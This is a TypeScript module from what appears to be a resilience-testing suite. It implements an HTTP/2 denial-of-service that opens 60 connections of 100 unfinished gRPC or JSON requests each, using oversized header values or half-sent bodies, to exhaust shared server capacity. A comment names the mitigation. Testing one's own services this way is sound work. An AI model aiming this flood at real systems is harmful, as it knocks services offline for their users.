// SPDX-License-Identifier: Apache-2.0

import type { Attack, Way } from "../attack.ts";
import { grpcFields, PATHS } from "../wire/grpc.ts";
import { FLAG, FRAME, frame, headerBlock } from "../wire/h2-frames.ts";
import { LETTERS_PATH } from "../wire/json-senders.ts";
import { openH2Line, over } from "../wire/line.ts";
import { sideBySide } from "../wire/repeat.ts";

const CONNECTIONS = 60;
const STREAMS = 100;
/** Values of a header, of which a request may have 1,000. */
const VALUES = 900;
/** After so many calls the next ones have half of the values, so that the last ones take what is left over. */
const CALLS_OF_A_SIZE = 10;

/** Opens as many calls as a connection may, and leaves them open. */
const way =
  (request: (streamId: number, index: number) => Buffer): Way =>
  async (target, tools) => {
    const all = Buffer.concat(Array.from({ length: STREAMS }, (_, index) => request(1 + 2 * index, index)));
    await sideBySide(CONNECTIONS, async () => {
      const line = await openH2Line(target.port, tools);
      if (await line?.send(all)) tools.tally.add("requests", STREAMS);
    });
    await over(tools.signal);
  };

function callWithValues(streamId: number, index: number): Buffer {
  const values = "AAAA,".repeat(VALUES >> (index / CALLS_OF_A_SIZE));
  const block = headerBlock({ ...grpcFields(PATHS.chat), "x-bin": values });
  return frame(FRAME.headers, FLAG.endHeaders, streamId, block);
}

const JSON_HEAD = headerBlock({
  ":method": "POST",
  ":scheme": "http",
  ":path": LETTERS_PATH,
  ":authority": "attack",
  "content-type": "application/json",
});

function halfBody(streamId: number): Buffer {
  return Buffer.concat([
    frame(FRAME.headers, FLAG.endHeaders, streamId, JSON_HEAD),
    frame(FRAME.data, FLAG.none, streamId, Buffer.from('{"name":"')),
  ]);
}

/** No setting holds it off. What does is that a part of each account is set aside for those who ask for little. */
export const attack: Attack = {
  name: "full-shares",
  about: `${CONNECTIONS} connections with ${STREAMS} unfinished small requests each, until nothing is left to share`,
  bounds: [],
  isBurst: true,
  ways: { heads: way(callWithValues), bodies: way(halfBody) },
  // Reading the heads takes a second of two processors, in which nobody is answered on a busy machine.
  shortWays: ["bodies"],
};
